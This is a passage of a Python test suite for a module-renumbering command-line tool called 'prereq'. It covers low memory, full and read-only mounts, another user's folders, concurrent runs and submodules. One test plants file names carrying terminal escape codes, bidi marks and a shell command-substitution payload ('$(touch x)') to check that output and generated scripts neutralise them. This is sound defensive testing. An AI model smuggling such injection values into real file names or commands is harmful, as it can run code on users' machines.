                fix = next(line for line in done.stderr.splitlines() if line.startswith("  fix: "))
                self.assertEqual(shlex.split(fix), ["fix:", "prereq", *words[:-1], "0"])
        done = self.prereq("lint", "--no-cache", "--time-limit=0")
        self.assertIn(done.returncode, (0, 1), done.stderr)
        done = self.prereq("lint", "--time-limit", "1000000")
        self.assertIn(done.returncode, (0, 1), done.stderr)

    def test_a_pipe_without_an_end_is_refused_in_time(self):
        for line, command in (("a b", "check -"), ("a b c d", "check -"), ("a,b", "check - --input-format csv"),
                              ("a->b", "graph - --input-format dot"), ("x", "verify -")):
            with self.subTest(line=line, command=command):
                done = self.run_in(self.home, "bash", "-c", f"ulimit -v 700000; yes '{line}' | {PREREQ} {command}")
                self.assertEqual(done.returncode, 2, done.stdout + done.stderr)
                self.assertRegex(done.stderr, "needs about [0-9]+ MiB of memory, and there are|expected at most 256 MiB|"
                                              "there is not enough memory")

    def test_want_of_memory_is_no_bug(self):
        self.commit()
        graph = self.graph("graph.yaml", [f"  - {{slug: m{i}, number: {i}}}\n" for i in range(1, 20001)])
        ended = 0
        for command in ((self.tree, f"{PREREQ} lint"), (self.home, f"{PREREQ} suggest {graph}"),
                        (self.tree, f"{PREREQ} apply")):
            for size in range(40000, 120000, 4000):
                limit = f"ulimit -v {size}; exec {PREREQ} --version"
                if self.run_in(self.home, "bash", "-c", limit).returncode != 0:
                    continue  # the kernel cannot even load the program
                before = snapshot(self.tree / "modules")
                done = self.run_in(command[0], "bash", "-c", f"ulimit -v {size}; exec {command[1]}")
                self.assertIn(done.returncode, (0, 1, 2, 127), f"{command[1]} {size}: {done.stderr}")
                if done.returncode == 2:
                    ended += 1
                    self.assertEqual(snapshot(self.tree / "modules"), before)
                if "apply" in command[1] and done.returncode == 0:
                    self.assertEqual(self.prereq("undo").returncode, 0)
        self.assertGreater(ended, 0)


@unittest.skipUnless(os.geteuid() == 0, "needs root, to mount and to be another user")
class Places(Hostile):
    """Disks that are full or may not be written to, and a tree of another user."""

    def mount(self, *arguments):
        done = subprocess.run(["mount", *arguments], capture_output=True, text=True)
        if done.returncode != 0:
            self.skipTest(f"no mounts here: {done.stderr.strip()}")
        self.addCleanup(subprocess.run, ["umount", "-l", arguments[-1]], capture_output=True)

    def refused_without_a_trace(self, command=("apply",), **how):
        before = snapshot(self.tree)
        done = self.prereq(*command, **how)
        self.assertEqual(done.returncode, 2, done.stdout + done.stderr)
        self.assertIn("error: ", done.stderr)
        self.assertEqual({name: what for name, what in snapshot(self.tree).items()
                          if not name.startswith(".prereq")}, before)
        return done.stderr

    def test_a_full_disk(self):
        refused = applied = 0
        for free in (0, 64, 540, 566, 580, 600, 640, 1000):
            with self.subTest(free=free):
                shutil.rmtree(self.tree)
                self.tree.mkdir()
                self.mount("-t", "tmpfs", "-o", "size=2m", "tmpfs", str(self.tree))
                self.put(self.tree, FILES)
                for i in range(40):
                    self.put(self.tree, {f"modules/01_alpha/{i}.md": "see 02_beta\n" * 400})
                room = os.statvfs(self.tree)
                fill = room.f_bavail * room.f_frsize - free * 1024
                (self.tree / "fill").write_bytes(b"x" * max(fill, 0))
                before = snapshot(self.tree)
                done = self.prereq("apply")
                if done.returncode == 0:
                    applied += 1
                    self.assertEqual(self.prereq("undo").returncode, 0)
                else:
                    refused += 1
                    self.assertEqual(done.returncode, 2, done.stderr)
                after = {name: what for name, what in snapshot(self.tree).items()
                         if not name.startswith(".prereq")}
                self.assertEqual(after, before)
                subprocess.run(["umount", "-l", str(self.tree)], check=True)
        self.assertGreater(refused, 0)
        self.assertGreater(applied, 0)

    def test_parts_that_are_mounted_read_only(self):
        self.mount("--bind", str(self.tree / "tests"), str(self.tree / "tests"))
        self.mount("-o", "remount,bind,ro", str(self.tree / "tests"))
        said = self.refused_without_a_trace()
        self.assertIn("fix: ", said)

    def test_a_module_that_is_a_mount(self):
        self.mount("-t", "tmpfs", "tmpfs", str(self.tree / "modules/02_beta"))
        (self.tree / "modules/02_beta/x.md").write_text("x\n")
        said = self.refused_without_a_trace()
        self.assertIn("modules/02_beta", said)

    def test_folders_of_another_user(self):
        self.home.chmod(0o755)
        program = self.home / "bin" / "prereq"
        program.parent.mkdir()
        shutil.copy(PREREQ, program)
        (self.home / "user").mkdir()
        for path in [self.home / "user", self.tree, *self.tree.rglob("*")]:
            os.chown(path, 65534, 65534)
        os.chown(self.tree / "modules", 0, 0)
        before = snapshot(self.tree)
        done = self.run_in(self.tree, "setpriv", "--reuid=65534", "--regid=65534",
                           "--clear-groups", str(program), "apply")
        self.refused(done, "modules")
        self.assertEqual(snapshot(self.tree), before)
        os.chown(self.tree / "modules", 65534, 65534)
        self.applied(self.run_in(self.tree, "setpriv", "--reuid=65534", "--regid=65534",
                                 "--clear-groups", str(program), "apply"))
        # What one user left there, another does not take back without a word.
        self.refused(self.prereq("undo"))


class Together(Hostile):
    """Several runs at once."""

    def test_two_changes_at_once(self):
        self.commit()
        for _ in range(5):
            runs = [subprocess.Popen([PREREQ, *command], cwd=self.tree, env=self.env,
                                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.PIPE, text=True)
                    for command in (["apply"], ["move", "gamma", "--to", "1"])]
            ends = [(run.communicate(timeout=60)[1], run.returncode) for run in runs]
            done = [end for end in ends if end[1] == 0]
            self.assertGreaterEqual(len(done), 1, ends)
            for said, code in ends:
                self.assertIn(code, (0, 2), said)
            self.assertEqual(self.prereq("lint", "--rule", "PRQ301").returncode, 0)
            for _ in done:
                self.prereq("undo")
            self.git("checkout", "-q", "--", ".")
            self.git("clean", "-qfd")
            self.git("reset", "-q", "--hard")

    def test_a_change_of_a_submodule_and_back(self):
        inner = self.home / "inner"
        self.put(inner, {"x.md": "see ../01_alpha\n"})
        self.git("init", "-q", "-b", "main", ".", cwd=inner)
        self.git("add", "-A", cwd=inner)
        self.git("commit", "-qm", "c", cwd=inner)
        self.commit()
        self.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(inner),
                 "modules/04_delta")
        self.git("commit", "-qm", "s")
        before = snapshot(self.tree / "modules/04_delta")
        done = self.prereq("move", "delta", "--to", "1", "--allow-submodules")
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertIn("path = modules/01_delta", (self.tree / ".gitmodules").read_text())
        self.assertEqual(self.git("-C", "modules/01_delta", "status", "--short"), "")
        self.assertEqual(self.prereq("undo").returncode, 0)
        self.assertEqual(snapshot(self.tree / "modules/04_delta"), before)
        self.assertEqual(self.git("status", "--short"), "")


class Printed(Hostile):
    """Nothing that a name holds may move a cursor or turn a line round."""

    def test_every_format_escapes_marks(self):
        marks = "\x1b[31m\x85\u009b31m\u202e\u2066\u2028\u200f\u061c\ufeff\x7f"
        names = [f"modules/04_a{marks}b", f"doc{marks}.md", "new\nline::error::x.md"]
        (self.tree / names[0]).mkdir()
        for name in (names[0] + "/README.md", names[1], names[2]):
            (self.tree / name).write_text(f"See Module 17 and 09_nowhere{marks} modules/09_x\n")
        bad = [mark for mark in marks if not mark.isascii() or not mark.isprintable()]
        bad = [mark for mark in bad if mark not in "[31m"]
        for name in Named.FORMATS:
            done = self.prereq("lint", "--format", name)
            for mark in bad:
                self.assertNotIn(mark, done.stdout + done.stderr, f"{name}: {mark!r}")
            self.assertNotIn("\n::error::x", done.stdout, name)
        for command in (["plan", "--format", "json"], ["plan"], ["plan", "--format", "markdown"],
                        ["plan", "--format", "script"], ["suggest", "--format", "list"],
                        ["suggest"], ["suggest", "--format", "json"], ["refs", "alpha"],
                        ["refs", "--format", "json"], ["tasks"], ["status"], ["init", "--dry-run"],
                        ["graph"], ["graph", "--format", "json"], ["graph", "--format", "dot"],
                        ["graph", "--format", "mermaid"], ["why", "alpha", names[0][8:]],
                        ["completion", "bash"], ["check"], ["apply", "--plan", names[1]]):
            done = self.prereq(*command)
            for mark in bad:
                self.assertNotIn(mark, done.stdout + done.stderr, f"{command}: {mark!r}")
        for line in self.prereq("plan", "--format", "patch").stdout.splitlines():
            if line.startswith(("diff ", "rename ", "--- ", "+++ ")):
                self.assertTrue(line.isprintable(), repr(line))

    def test_a_script_moves_what_has_marks_in_its_name(self):
        for slug in ("b\x1b[31m\x9b'$(touch x)%d\\n", "c\n\n", "-d\u202e\t"):
            with self.subTest(slug=slug):
                shutil.rmtree(self.tree)
                self.tree.mkdir()
                (self.tree / "prereq.yaml").write_text(
                    'version: 1\nseries: {path: "{number:02}_{slug}"}\n')
                for name in ("01_a", f"02_{slug}"):
                    (self.tree / name).mkdir()
                    (self.tree / name / "x").write_text("of " + name[3:])
                plan = self.prereq("move", "a", "--to", "2", "--dry-run", "--format", "script")
                self.assertEqual(plan.returncode, 0, plan.stderr)
                self.assertTrue(all(line.isprintable() for line in plan.stdout.splitlines()))
                done = subprocess.run(["sh", "-c", plan.stdout, "sh", str(self.tree)],
                                      capture_output=True, text=True)
                self.assertEqual(done.returncode, 0, done.stderr)
                self.assertEqual((self.tree / f"01_{slug}" / "x").read_text(), "of " + slug)
                self.assertTrue((self.tree / "02_a" / "x").exists())
                self.assertFalse((self.tree / "x").exists())


if __name__ == "__main__":
    unittest.main(argv=[sys.argv[0], *sys.argv[3:]])
